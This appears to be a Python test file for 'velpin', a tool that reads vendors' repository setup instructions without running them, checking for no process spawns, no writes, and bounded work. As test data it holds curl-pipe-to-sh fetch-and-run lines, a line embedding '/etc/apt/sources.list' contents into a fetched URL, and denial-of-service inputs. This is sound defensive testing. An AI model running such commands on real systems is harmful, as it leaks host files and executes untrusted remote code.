"""Vendors' instructions: what is read from them, what is not, and that nothing of them is run."""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.instruction_cases import Case, MadeUp, cases, fetch, read, told
from velpin.errors import FetchError, HostFileError, VelpinError
from velpin.instructions.page import MOST_TEXT, is_plain, read_page
from velpin.instructions.reading import readings

KINDS = ("deb", "rpm-dnf", "rpm-zypp", "alpm")
ALL = [case for kind in KINDS for file in (kind, f"scripts-{kind}") for case in cases(file)]


def _named(case: Case) -> str:
    return f"{case.kind}: {case.title}"


@pytest.mark.parametrize("case", ALL, ids=_named)
def test_instructions(case: Case) -> None:
    assert told(read(case.kind, case.text)) == case.wanted


# -- nothing of them is run ------------------------------------------------------------------

_watched: list[str] = []
_watching_now: list[bool] = []


def _watch(event: str, args: tuple[object, ...]) -> None:
    if not _watching_now:
        return
    starts = ("subprocess", "os.exec", "os.fork", "os.posix_spawn", "os.system", "os.spawn", "pty")
    if event.startswith(starts):
        _watched.append(event)
    elif event == "open" and isinstance(args[2], int) and args[2] & (os.O_WRONLY | os.O_RDWR):
        _watched.append(f"{event} {args[0]!r}")
    elif event in ("os.remove", "os.rename", "os.mkdir", "os.chmod", "os.link", "os.symlink"):
        _watched.append(event)


sys.addaudithook(_watch)


@contextmanager
def _watching() -> Iterator[list[str]]:
    _watched.clear()
    _watching_now.append(True)
    try:
        yield _watched
    finally:
        _watching_now.clear()


def test_no_process_is_started_and_nothing_is_written_while_reading() -> None:
    read("deb", "sudo true")  # what is loaded for the first time
    with _watching() as seen:
        for case in ALL:
            read(case.kind, case.text)
    assert seen == []


def test_what_is_watched_would_be_seen(tmp_path: os.PathLike[str]) -> None:
    with _watching() as seen:
        (tmp_path / "written").write_text("")  # type: ignore[operator]
    assert len(seen) == 1


def test_what_a_file_of_the_host_holds_never_goes_into_an_address() -> None:
    fetched: list[str] = []

    def watched(address: str) -> bytes:
        fetched.append(address)
        raise FetchError(address, "there is nothing")

    text = (
        'curl "http://deb.gullwatch.example/?$(cat /etc/apt/sources.list)" | sh\n'
        'for c in a b; do grep -q "$c" /etc/apt/sources.list && x=$x$c; done\n'
        "curl http://deb.gullwatch.example/$x | sh\n"
        'curl -fI "http://deb.gullwatch.example/$(cat /etc/apt/sources.list)"\n'
    )
    readings(text, "page", MadeUp("deb"), watched)
    assert all("sources.list" not in address and "\uf8ff" not in address for address in fetched)


# -- the same, written in other ways -----------------------------------------------------------

KEYS = (
    "curl -fsSL http://deb.gullwatch.example/key.asc | {}gpg --dearmor -o /etc/apt/keyrings/g.gpg",
    "wget -qO- http://deb.gullwatch.example/key.asc | {}tee /etc/apt/keyrings/g.gpg > /dev/null",
    "{}curl -o /etc/apt/keyrings/g.gpg http://deb.gullwatch.example/key.asc",
    "{}sh -c 'curl -s http://deb.gullwatch.example/key.asc > /etc/apt/keyrings/g.gpg'",
    "{}install -m 644 <(wget -qO- http://deb.gullwatch.example/key.asc) /etc/apt/keyrings/g.gpg",
)
LINE = "deb [signed-by=/etc/apt/keyrings/g.gpg] http://deb.gullwatch.example/apt jetty main"
SOURCES = (
    f'echo "{LINE}" | {{}}tee /etc/apt/sources.list.d/g.list',
    f"{{}}sh -c 'echo {LINE.replace('[', chr(34) + '[').replace(']', ']' + chr(34))} > /etc/apt/sources.list.d/g.list'",
    f"printf '%s\\n' '{LINE}' | {{}}tee -a /etc/apt/sources.list.d/g.list >/dev/null",
    f"{{}}tee /etc/apt/sources.list.d/g.list <<'EOF'\n{LINE}\nEOF",
    f"cat <<EOF | {{}}tee /etc/apt/sources.list.d/g.list\n{LINE.replace('jetty', '$(lsb_release -cs)')}\nEOF",
    LINE,
)
NOISE = (
    "", "# add our key", "Now add the source:", "OK", "Hit:1 http://archive.mooring.example jetty InRelease",
    "sudo apt-get update", "sudo apt-get install -y ca-certificates curl", "mkdir -p /etc/apt/keyrings",
    "echo done", "For Mooring, do this.", "Reading package lists... Done",
)  # fmt: skip


@st.composite
def _pages(draw: st.DrawFn) -> str:
    root = draw(st.sampled_from(("", "sudo ", "sudo -E ", "env A=b ")))
    prompt = draw(st.sampled_from(("", "$ ", "root@harbour:~# ", "[root@harbour ~]# ")))
    parts = [draw(st.sampled_from(KEYS)).format(root), draw(st.sampled_from(SOURCES)).format(root)]
    parts = list(draw(st.permutations(parts)))
    page: list[str] = []
    for part in parts:
        page += draw(st.lists(st.sampled_from(NOISE), max_size=3))
        first, *rest = part.split("\n")
        is_line = first.startswith("deb ")
        page += ["", first, ""] if is_line else [prompt + first, *rest]
    ending = draw(st.sampled_from(("\n", "\r\n")))
    return ending.join([*page, draw(st.sampled_from(NOISE)), ""])


@given(_pages())
@settings(max_examples=300, deadline=None)
def test_a_page_means_the_same_however_it_is_written(text: str) -> None:
    (found,) = read("deb", text)
    (source,) = found.sources
    assert source.snippet.split() == LINE.split()
    assert [key.address for key in source.keys] == ["http://deb.gullwatch.example/key.asc"]
    assert found.unfollowed == ()


_BITS = st.sampled_from((
    "$(", ")", "`", "'", '"', "${A:-", "}", "| sh", "<<EOF\n", "EOF\n", "if ", "; then ", "; fi", "for x in a; do ",
    "done", "case x in ", "esac", "f() { ", "f; ", "}", "echo a > /etc/apt/sources.list", "&& ", "sudo ", "\\",
    "curl http://deb.gullwatch.example/setup.sh", "$x", "\n", " ", "[ ", " ]", "[[ a == ", "]]", "((", "))", "~", "{a,b}",
))  # fmt: skip


@given(st.lists(_BITS, max_size=14).map("".join))
@settings(max_examples=400, deadline=None)
@example("f() { f; }\nf\n")
@example("echo $((1/0))\n")
@example("cd \0; cat \0\n")
def test_what_is_no_shell_ends_in_an_answer_or_an_error_of_velpins(text: str) -> None:
    try:
        told(read("deb", text))
    except VelpinError as problem:
        assert problem.message


# -- where it ends -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "line", "why"),
    [
        ("true\nwhile true; do echo; done\n", 2, "goes round without end"),
        ("until false; do :; done\n", 1, "goes round without end"),
        ("f() { f; }\ntrue\nf\n", 1, "too deeply"),
        ("f() { f | f; }\nf\n", 1, "too deeply"),
        ('x=aaaaaaaa\nfor i in 1 2 3 4 5 6 7 8 9; do x="$x$x$x$x$x$x"; done\n', 2, "256 kB"),
        ("for a in {1,2,3,4,5,6,7,8,9,0}{1,2,3,4,5,6,7,8,9,0}; do :; done\n", 0, ""),
        ("true\nsudo tee /etc/x <<EOF\nnever ends\n", 2, "does not end"),
        ("\n" * 20_001 + "sudo apt update", 20_000, "more than 20000 lines"),
        ("curl -s http://deb.gullwatch.example/round.sh | sh\n", 1, "too deeply"),
    ],
)  # fmt: skip
def test_what_has_no_end_is_refused_with_its_line(text: str, line: int, why: str) -> None:
    def endless(address: str) -> bytes:
        return b"#!/bin/sh\ncurl -s http://deb.gullwatch.example/round.sh | sh\n"

    if not why:
        assert readings(text, "page", MadeUp("deb"), endless)
        return
    with pytest.raises(HostFileError, match=why) as found:
        readings(text, "page", MadeUp("deb"), endless)
    assert f":{line}:" in found.value.message or "round.sh" in found.value.message


def test_ten_megabytes_are_refused_and_one_is_not() -> None:
    line = "sudo apt-get update # " + "x" * 1000 + "\n"
    with pytest.raises(HostFileError, match="more than 1 MB"):
        read_page(line * 10_000, "page")
    assert read_page(line * (MOST_TEXT // len(line)), "page").is_shell


@pytest.mark.parametrize(
    "pattern", ["(a+)+$", "(a|a)*b", r"\(a*\)*b", ".*.*.*.*.*x", "a{1,9}{1,9}{1,9}"]
)
def test_a_pattern_that_takes_long_is_not_tried(pattern: str) -> None:
    text = f"echo {'a' * 5000} | grep -E '{pattern}' && echo deb http://a.example b c > /etc/apt/sources.list\n"
    for reading in read("deb", text):
        assert reading.way  # undecided, so each way is told with its condition


def test_no_more_is_fetched_than_the_page_needs() -> None:
    fetched: list[str] = []

    def counted(address: str) -> bytes:
        fetched.append(address)
        return fetch(address)

    text = "curl -s http://deb.gullwatch.example/setup.sh > /tmp/x\ncurl http://deb.gullwatch.example/other\n"
    readings(text, "page", MadeUp("deb"), counted)
    assert fetched == []
    readings(text + "sh /tmp/x\n", "page", MadeUp("deb"), counted)
    assert set(fetched) == {"http://deb.gullwatch.example/setup.sh"}


# -- what needs no reading -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("deb http://deb.gullwatch.example/apt jetty main\n", True),
        ("deb [signed-by=/etc/apt/keyrings/g.asc] http://deb.gullwatch.example/apt jetty main\n", True),
        ("[gullwatch]\nname=Gullwatch\nbaseurl=http://rpm.gullwatch.example/ls9\nenabled=0\n", True),
        ("[gullwatch]\ngpgkey=http://rpm.gullwatch.example/key.asc\nbaseurl=http://a.example\n", True),
        ("[gullwatch]\nServer = http://pkg.gullwatch.example/$repo/$arch\n", True),
        ("Types: deb\nURIs: http://deb.gullwatch.example/apt\nSuites: jetty\nComponents: main\n", True),
        ("deb http://deb.gullwatch.example/apt RELEASE main\n", False),
        ("deb http://deb.gullwatch.example/apt jetty main\n# key: http://a.example/key.asc\n", False),
        ("<pre>deb http://deb.gullwatch.example/apt jetty main</pre>\n", False),
        ("echo 'deb http://deb.gullwatch.example/apt jetty main'\n", False),
        ("gullwatch\n", True),
    ],
)  # fmt: skip
def test_a_source_alone_is_read_as_one(text: str, plain: bool) -> None:
    assert is_plain(text) == plain


HOSTILE = {
    "quotes that nothing closes": ('echo "\n' * 15_000, ""),
    "functions that nothing closes": ("f() {\n" * 15_000, "cannot be told apart"),
    "one address after another": ("http://" * 100_000 + "\n", ""),
    "a line without end": ("a b " * 200_000 + "\n", ""),
    "loops in loops": (
        "for i in {1,2,3,4,5,6,7,8,9,0}; do\n" * 12 + "echo x > /tmp/$i\n" + "done\n" * 12, "steps",
    ),
    "conditions without end": ("[ $RANDOM = 1 ] && echo\n" * 200, ""),
    "long texts cut by patterns": (
        "x=abcdefgh\n" + 'x="$x$x"\n' * 14 + 'y="${x%%*a*b*c*d*e}"\n' * 50, "",
    ),
    "files without end": ("".join(f"echo > /tmp/{n}\n" for n in range(1200)), "writes more than"),
    "things without end": ("".join(f"unknown-{n} --x\n" for n in range(1200)), "does more than"),
}  # fmt: skip
"""Texts that would take hours without a bound, and what they are refused for, if they are."""


@pytest.mark.parametrize("title", HOSTILE)
def test_what_would_take_hours_ends(title: str) -> None:
    text, why = HOSTILE[title]
    if why:
        with pytest.raises(HostFileError, match=why):
            read("deb", text)
    else:
        assert all(reading.is_empty for reading in read("deb", text))


@pytest.mark.parametrize(("conditions", "are_all_tried"), [(5, True), (6, True), (7, False)])
def test_ways_that_were_not_tried_are_told(conditions: int, are_all_tried: bool) -> None:
    text = "[ $RANDOM = 1 ] && echo\n" * conditions
    found = read(
        "deb",
        text
        + "echo 'deb http://deb.gullwatch.example/apt jetty main' > /etc/apt/sources.list.d/g.list\n",
    )
    assert all((not reading.unfollowed) == are_all_tried for reading in found)


def test_a_command_has_so_many_lines_and_no_more() -> None:
    def page(lines: int) -> str:
        return "cat > /tmp/x <<EOF\n" + "a\n" * lines + "EOF\ndeb http://a.example jetty main\n"

    assert len(read_page(page(399), "page").loose) == 2  # the source, and the end
    with pytest.raises(HostFileError, match="a text begins here that does not end"):
        read_page(page(400), "page")


def test_the_last_words_of_a_page_in_tags() -> None:
    assert [line.text for line in read_page("<p>Add</p>a &amp", "page").loose] == ["Add", "a &"]


@pytest.mark.parametrize(
    "text",
    ['echo "a', "echo 'a", "echo `a", "echo $(a", "echo ${a", 'echo "$(a', "a=(1", "[[ a", "(( 1"],
)
def test_what_does_not_close_is_read_as_far_as_it_goes(text: str) -> None:
    line = "deb http://deb.gullwatch.example/apt jetty main"
    for page in (text, f"{line}\n\n{text}", f"#!/bin/sh\n{text}\n"):
        assert len(read("deb", page)) == 1
